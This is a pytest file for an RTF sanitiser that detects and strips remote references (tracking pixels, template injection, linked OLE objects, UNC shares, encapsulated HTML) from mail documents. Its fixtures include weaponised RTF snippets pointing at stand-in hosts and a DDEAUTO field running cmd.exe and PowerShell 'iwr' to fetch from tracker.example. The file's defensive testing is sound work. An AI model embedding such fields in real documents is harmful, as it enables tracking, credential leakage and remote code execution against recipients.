# ruff: noqa: UP031 - rich text is made of braces, which other ways of formatting would double
from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailveil.core.message.edits import splice
from mailveil.core.message.text import Text
from mailveil.core.message.types import Edit, Source
from mailveil.core.references.rtf import find_in_rtf
from mailveil.core.references.types import Findings, Scope, Vector

URL = "http://tracker.example/x.gif"


def search(rtf: str) -> tuple[Source, Findings]:
    source = Source(rtf.encode("latin-1"))
    findings = Findings()
    find_in_rtf(Text(rtf, source), Scope("1", findings, base="http://base.example/"))
    return source, findings


def clean(rtf: str) -> str:
    source, findings = search(rtf)
    edits = [Edit(one.start, one.end, one.inert.encode(one.encoding)) for one in findings.references]
    return splice(source.data, edits).decode("latin-1")


def urls(rtf: str) -> list[str]:
    return [reference.url for reference in search(rtf)[1].references]


def balanced(rtf: str) -> bool:
    depth = 0
    for match in re.finditer(r"\\.|[{}]", rtf, re.DOTALL):
        depth += {"{": 1, "}": -1}.get(match[0], 0)
        if depth < 0:
            return False
    return depth == 0


FIELD = "{\\field{\\*\\fldinst %s}{\\fldrslt shown}}"
CASES: dict[str, tuple[str, str]] = {
    "picture field": (FIELD % f'INCLUDEPICTURE "{URL}" \\\\* MERGEFORMAT \\\\d', URL),
    "picture field without quotes": (FIELD % f" includepicture {URL} \\\\d", URL),
    "picture field without a star": ("{\\field{\\fldinst{INCLUDEPICTURE %s}}}" % URL, URL),
    "formatted": (FIELD % ("{\\rtlch INCLUDE}{\\b PICTURE }{\\f1 \"%s\"}" % URL), URL),
    "text field": (FIELD % f'INCLUDETEXT "{URL}" !x', URL),
    "link field": (FIELD % f'LINK Excel.Sheet "{URL}"', URL),
    "referenced document": (FIELD % f'RD "{URL}"', URL),
    "database": (FIELD % f'DATABASE \\\\d "{URL}"', URL),
    "unknown field": (FIELD % f'WHATEVER "{URL}"', URL),
    "share": (FIELD % 'INCLUDEPICTURE "\\\\\\\\\\\\\\\\evil.example\\\\\\\\s\\\\\\\\a.png"', "file://evil.example/s/a.png"),
    "share in single escapes": (FIELD % 'INCLUDEPICTURE "\\\\\\\\evil.example\\\\s\\\\a.png"', "file://evil.example/s/a.png"),
    "hexadecimal": (FIELD % "INCLUDEPICTURE \"\\'68\\'74tp://tracker.example/x.gif\"", URL),
    "unicode": (FIELD % 'INCLUDEPICTURE "\\u104 ?ttp://tracker.example/x.gif"', URL),
    "unicode without fallback": (FIELD % '\\uc0 INCLUDEPICTURE "\\u104 ttp://tracker.example/x.gif"', URL),
    "broken lines": (FIELD % 'INCLUDEPICT\r\nURE "http://trac\r\nker.example/x.gif"', URL),
    "template": ("{\\rtf1{\\*\\template %s}}" % URL, URL),
    "template on a share": ("{\\rtf1{\\*\\template \\\\\\\\evil.example\\\\t.dot}}", "file://evil.example/t.dot"),
    "linked shape": ("{\\sp{\\sn pibName}{\\sv %s}}{\\sp{\\sn pibFlags}{\\sv 10}}" % URL, URL),
    "list of files": ("{\\*\\filetbl{\\file\\fid1 %s}}" % URL, URL),
    "mail merge": ("{\\*\\mailmerge{\\*\\mmconnectstr Provider=x;Data Source=%s;y}}" % URL, URL),
    "group never closed": ('{\\field{\\*\\fldinst INCLUDEPICTURE "%s"' % URL, URL),
    "destination changed midway": (FIELD % f'INCLUDEPICTURE "{URL}" \\*\\other', URL),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_what_is_fetched_is_found_and_gone(name: str) -> None:
    rtf, url = CASES[name]
    assert urls(rtf) == [url]
    assert search(rtf)[1].references[0].vector is Vector.RTF_FIELD
    out = clean(rtf)
    assert urls(out) == []
    assert balanced(out) == balanced(rtf)


@pytest.mark.parametrize(
    "split",
    [
        FIELD % 'INCLUDEPICTURE "htt{\\b p://tracker.example/x.gif}"',
        FIELD % '{INCLUDEPICTURE "ht}{tp://tra}cker.example/x.gif"',
        FIELD % 'INCLUDEPICTURE "h{}ttp://tracker.example/x.gif"',
        FIELD % 'INCLUDEPICTURE "\\\\\\\\\\\\\\\\{evil.example}\\\\\\\\s\\\\\\\\a.png"',
    ],
)
def test_groups_stay_whole_where_an_address_crosses_them(split: str) -> None:
    assert len(set(urls(split))) == 1
    out = clean(split)
    assert balanced(out)
    assert urls(out) == []


def test_an_address_computed_by_another_field_takes_the_field_with_it() -> None:
    rtf = FIELD % (
        'INCLUDEPICTURE "{\\field{\\*\\fldinst QUOTE 104 116 116 112}{\\fldrslt http}}://tracker.example"'
    )
    (reference,) = search(rtf)[1].references
    assert reference.url.startswith("includepicture:")
    out = clean(rtf)
    assert "INCLUDEPICTURE" not in out
    assert urls(out) == []


def test_a_field_that_starts_a_program_with_an_address_is_gone() -> None:
    rtf = FIELD % 'DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k powershell iwr http://tracker.example/p"'
    assert len(urls(rtf)) >= 1
    assert "DDEAUTO" not in clean(rtf)


@pytest.mark.parametrize(
    "rtf",
    [
        FIELD % f'HYPERLINK "{URL}"',
        FIELD % f'ADDIN CSL_CITATION {{"URL":"{URL}"}}'.replace("{", "\\{").replace("}", "\\}"),
        FIELD % "INCLUDEPICTURE \"C:\\\\\\\\pictures\\\\\\\\a.png\"",
        FIELD % 'INCLUDEPICTURE "a.png"',
        FIELD % 'INCLUDEPICTURE "cid:x@y"',
        f"{{\\rtf1 plain text with {URL} in it}}",
        "{\\xmlnstbl{\\xmlns1 http://schemas.example/office}}",
        "{\\sp{\\sn wzDescription}{\\sv %s}}" % URL,
        "{\\sp{\\sn pihlShape}{\\sv{\\*\\hl{\\hlsrc %s}}}}" % URL,
        "{\\object\\objemb{\\*\\objdata %s}}" % (b"\1\5\0\0\2\0\0\0" + URL.encode()).hex(),
    ],
)  # fmt: skip
def test_what_is_not_fetched_stays(rtf: str) -> None:
    assert urls(rtf) == []


def test_links_are_noted() -> None:
    assert search(FIELD % f'HYPERLINK "{URL}"')[1].linked == {URL}


# --- objects ---------------------------------------------------------------------------------------------

WIDE = URL.encode("utf-16-le")


@pytest.mark.parametrize(
    "blob", [b"\1\5\0\0" + URL.encode(), bytes(9) + WIDE + bytes(5)], ids=["narrow", "wide"]
)
@pytest.mark.parametrize("width", [0, 16, 5])
def test_a_linked_object_loses_its_address_and_keeps_its_length(blob: bytes, width: int) -> None:
    digits = blob.hex()
    if width:
        digits = "\r\n".join(digits[at : at + width] for at in range(0, len(digits), width))
    rtf = "{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata %s}}" % digits
    assert urls(rtf) == [URL]
    out = clean(rtf)
    assert urls(out) == []
    data = bytes.fromhex(re.sub(r"\s", "", out[out.index("objdata ") + 8 :].rstrip("}")))
    assert len(data) == len(blob)
    assert b"tracker" in data.replace(b"\0", b"")


def test_an_object_that_says_it_is_embedded_but_links_is_found() -> None:
    blob = b"\1\5\0\0\2\0\0\0\x09\0\0\0OLE2Link\0" + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + WIDE
    assert urls("{\\object\\objemb{\\*\\objdata %s}}" % blob.hex()) == [URL]
    share = "\\\\evil.example\\s\\a.doc".encode("utf-16-le")
    (found,) = urls("{\\object\\objemb{\\*\\objdata %s}}" % (b"OLE2Link" + bytes(4) + share).hex())
    assert found == "file://evil.example/s/a.doc"


def test_an_object_in_binary_is_found() -> None:
    blob = "OLE2Link" + WIDE.decode("latin-1")
    rtf = "{\\object\\objautlink{\\*\\objdata\\bin%d %s}}" % (len(blob), blob)
    assert urls(rtf) == [URL]
    assert urls(clean(rtf)) == []
    assert len(clean(rtf)) == len(rtf)


# --- encapsulated HTML (MS-OXRTFEX) ----------------------------------------------------------------------


def encapsulated(*tags: str) -> str:
    return "{\\rtf1\\ansi\\fromhtml1 " + "".join(tags) + "}"


@pytest.mark.parametrize(
    "rtf",
    [
        encapsulated('{\\*\\htmltag64 <img src="%s">}' % URL),
        encapsulated('{\\*\\htmltag64 <img\\par src="%s">}' % URL),
        encapsulated("{\\*\\htmltag64 <img src=\"\\'68ttp://tracker.example/x.gif\">}"),
        encapsulated('{\\*\\htmltag64 <img }\\htmlrtf \\b hidden\\htmlrtf0 {\\*\\htmltag64 src="%s">}' % URL),
        encapsulated('{\\*\\htmltag64 <img src="http://trac}{\\*\\htmltag64 ker.example/x.gif">}'),
        encapsulated('{\\*\\htmltag64 <img src="http://trac}', '{\\b ker.example/x.gif}{\\*\\htmltag ">}'),
        encapsulated('{\\*\\htmltag64 <style>a\\{b:url(%s)\\}</style>}' % URL),
        encapsulated('{\\*\\mhtmltag64 <img src="%s">}' % URL),
    ],
)  # fmt: skip
def test_html_in_rich_text_is_searched(rtf: str) -> None:
    assert urls(rtf) == [URL]
    out = clean(rtf)
    assert urls(out) == []
    assert balanced(out)


def test_a_picture_in_encapsulated_html_can_be_copied() -> None:
    (reference,) = search(encapsulated('{\\*\\htmltag64 <img src="%s">}' % URL))[1].references
    assert reference.vector is Vector.IMG_SRC
    assert reference.media is not None
    assert reference.source.data[reference.start : reference.end] == URL.encode()


def test_the_base_of_encapsulated_html_goes() -> None:
    rtf = encapsulated("{\\*\\htmlbase %s}" % URL, '{\\*\\htmltag64 <img src="a.png">}')
    (reference,) = search(rtf)[1].references
    assert (reference.vector, reference.url) == (Vector.CONTENT_BASE, URL)


def test_markup_in_rich_text_that_is_not_encapsulated_is_text() -> None:
    assert urls('{\\rtf1 <img src="%s">}' % URL) == []


def test_text_of_another_width_is_mapped_back() -> None:
    rtf = FIELD % f'INCLUDEPICTURE "{URL}"'
    source = Source(rtf.encode("utf-16-le"))
    findings = Findings()
    places = range(0, 2 * len(rtf), 2)
    text = Text(rtf, source, starts=places, ends=range(2, 2 * len(rtf) + 2, 2), encoding="utf-16-le")
    find_in_rtf(text, Scope("1", findings))
    (reference,) = findings.references
    assert source.data[reference.start : reference.end].decode("utf-16-le") == URL


# --- anything at all -------------------------------------------------------------------------------------

PIECES = st.lists(
    st.sampled_from(
        ["{", "}", "\\*", "\\field", "\\fldinst ", "\\fldrslt ", "INCLUDEPICTURE ", '"', URL, "\\fromhtml1 ",
         "\\objdata ", "\\htmltag ", "<img src=", ">", "\\u104 ?", "\\'68", "\\uc3 ", "\\bin9 ",
         "\\sn x", "\\sv ",
         "\\par ", "\\\\\\\\", "687474703a2f2f612e622f", "\\objautlink ", "\\htmlrtf ", "\\htmlrtf0 ",
         "\\template ", "ht",
         "tp://a.b/", "\0"]
    ),
    max_size=30,
).map("".join)  # fmt: skip


@settings(max_examples=250, deadline=None)
@given(PIECES)
def test_anything_is_cleaned_for_good(rtf: str) -> None:
    source, findings = search(rtf)
    for reference in findings.references:
        assert 0 <= reference.start <= reference.end <= len(source.data)
    out = clean(rtf)
    assert urls(out) == []
    if balanced(rtf):
        assert balanced(out)


@pytest.mark.parametrize(
    "piece",
    ["{", "{\\*\\fldinst ", "\\fldinst a", "\\objdata 6", "{\\*\\htmltag <", "\\u1 ", "\\'41", "{}a",
     '{\\*\\fldinst "\\\\', "\\htmltag {}<a "],
)  # fmt: skip
def test_time_is_linear(piece: str) -> None:
    def seconds(prefix: str, size: int) -> float:
        start = time.perf_counter()
        search(prefix + piece * (size // len(piece)))
        return time.perf_counter() - start

    for prefix in (
        "{\\rtf1\\fromhtml1 ",
        "{\\rtf1{\\*\\fldinst INCLUDEPICTURE ",
        "{\\object\\objautlink{\\*\\objdata ",
    ):
        assert seconds(prefix, 150_000) < 2
